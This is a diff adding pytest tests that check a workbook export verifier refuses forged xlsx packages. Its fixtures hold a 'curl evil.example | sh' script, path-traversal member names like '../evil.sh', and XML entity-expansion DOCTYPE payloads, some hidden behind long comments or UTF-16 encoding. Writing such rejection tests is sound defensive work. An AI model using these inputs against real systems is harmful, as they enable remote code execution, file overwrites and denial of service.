@@ -637,6 +637,95 @@ def test_a_huge_part_is_refused_by_the_cli_in_one_line_without_reading_it(export
                                   "unpacks to 600,0") and "(at most 536,870,912 in an export)" in proc.stderr
 
 
+# ---- parts no export has: members nothing refers to, names outside the package, a DOCTYPE -------------
+
+_SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
+_DOCTYPE = '<!DOCTYPE x [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
+_PROLOG = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n  <!-- checked by the auditor -->\n'
+
+
+def _added(name: str, data: bytes = _SCRIPT):
+    def make(src, dst) -> None:
+        from tests.helpers.forge import with_member
+        with_member(src, dst, name, data)
+    return make
+
+
+def _with_doctype(part: str):
+    """The DOCTYPE after an XML declaration, whitespace and a comment, just before the root element."""
+    def make(src, dst) -> None:
+        from tests.helpers.forge import rewrite_part
+        rewrite_part(src, dst, part, lambda x: _PROLOG + _DOCTYPE + x.split("?>", 1)[-1].lstrip())
+    return make
+
+
+def _doctype_in_shared_strings(src, dst) -> None:
+    from tests.helpers.forge import rewrite_part, with_shared_strings
+    registered = dst.with_name("sst.xlsx")
+    with_shared_strings(src, registered, _repeat(b"<si><t>&lol2;</t></si>", 1))
+    rewrite_part(registered, dst, "xl/sharedStrings.xml", lambda x: x.replace("?>", "?>" + _DOCTYPE, 1))
+
+
+def _utf16_sheet_with_doctype(src, dst) -> None:
+    import zipfile
+    from tests.helpers.forge import with_member
+    with zipfile.ZipFile(src) as z:
+        sheet = z.read("xl/worksheets/sheet3.xml").decode()
+    with_member(src, dst, "xl/worksheets/sheet3.xml",
+                ('<?xml version="1.0" encoding="UTF-16"?>' + _DOCTYPE + sheet).encode("utf-16"))
+
+
+_PLAIN = "is not a plain path inside the package"
+PACKAGE_FORGERIES = [
+    pytest.param(_added("../evil.sh"), "../evil.sh", _PLAIN, id="member-outside-the-package"),
+    pytest.param(_added("/abs/path"), "/abs/path", _PLAIN, id="member-absolute"),
+    pytest.param(_added("xl\\worksheets\\sheet1.xml"), "xl\\worksheets\\sheet1.xml", _PLAIN, id="member-backslash"),
+    pytest.param(_added("xl/extra.bin"), "xl/extra.bin", "is referred to by nothing in the package",
+                 id="member-nothing-refers-to"),
+    pytest.param(_added("XL/workbook.xml", b"<workbook/>"), "XL/workbook.xml", "is in the package twice",
+                 id="member-twice-in-another-case"),
+    pytest.param(_with_doctype("xl/worksheets/sheet3.xml"), "xl/worksheets/sheet3.xml",
+                 "contains a DOCTYPE declaration, which no export has", id="doctype-in-a-sheet"),
+    pytest.param(_with_doctype("xl/workbook.xml"), "xl/workbook.xml", "contains a DOCTYPE", id="doctype-in-workbook"),
+    pytest.param(_with_doctype("_rels/.rels"), "_rels/.rels", "contains a DOCTYPE", id="doctype-in-relationships"),
+    pytest.param(_doctype_in_shared_strings, "xl/sharedStrings.xml", "contains a DOCTYPE",
+                 id="doctype-in-shared-strings"),
+    pytest.param(_utf16_sheet_with_doctype, "xl/worksheets/sheet3.xml", "contains a DOCTYPE",
+                 id="doctype-in-a-utf16-sheet"),
+    pytest.param(_added("xl/styles.xml", f'<!--{" " * 70_000}-->{_DOCTYPE}<styleSheet/>'.encode()), "xl/styles.xml",
+                 "does not start its XML within 65,536 bytes", id="doctype-after-a-long-comment"),
+    pytest.param(_added("xl/styles.xml", b'<!ENTITY lol "lol"><styleSheet/>'), "xl/styles.xml",
+                 "is not well-formed XML", id="entity-without-doctype"),
+]
+
+
+@pytest.mark.parametrize("forgery, part, why", PACKAGE_FORGERIES)
+def test_a_package_with_a_part_no_export_has_is_refused_naming_the_part(exported, tmp_path, forgery, part, why):
+    from workbench.errors import InputError
+    store, _, path, _ = exported
+    forged = tmp_path / "forged.xlsx"
+    forgery(path, forged)
+    with pytest.raises(InputError) as err:
+        verify_workbook(store, forged)
+    text = str(err.value)
+    assert text.startswith(f"{forged}: not an export: its part {part} {why}") and "\n" not in text
+
+
+def test_a_forged_part_is_refused_by_the_cli_in_one_line_and_a_genuine_export_still_verifies(exported, tmp_path,
+                                                                                             capsys):
+    from workbench.cli import main
+    store, _, path, _ = exported
+    forged = tmp_path / "forged.xlsx"
+    _added("../evil.sh")(path, forged)
+    capsys.readouterr()
+    assert main(["export", "--db", store.url, "--verify", str(forged)]) == 2  # as a zip bomb: not an export
+    out, err = capsys.readouterr()
+    assert out == "" and err.count("\n") == 1
+    assert err.startswith(f"workbench: error: {forged}: not an export: its part ../evil.sh {_PLAIN}")
+    assert main(["export", "--db", store.url, "--verify", str(path)]) == 0
+    assert capsys.readouterr().out.startswith(f"{path}: OK")
+
+
 def test_a_known_secret_in_source_data_is_masked_on_every_sheet_but_key_value_text_is_kept(store, tmp_path,
                                                                                           monkeypatch):
     rid = make_run(store, monkeypatch=monkeypatch,
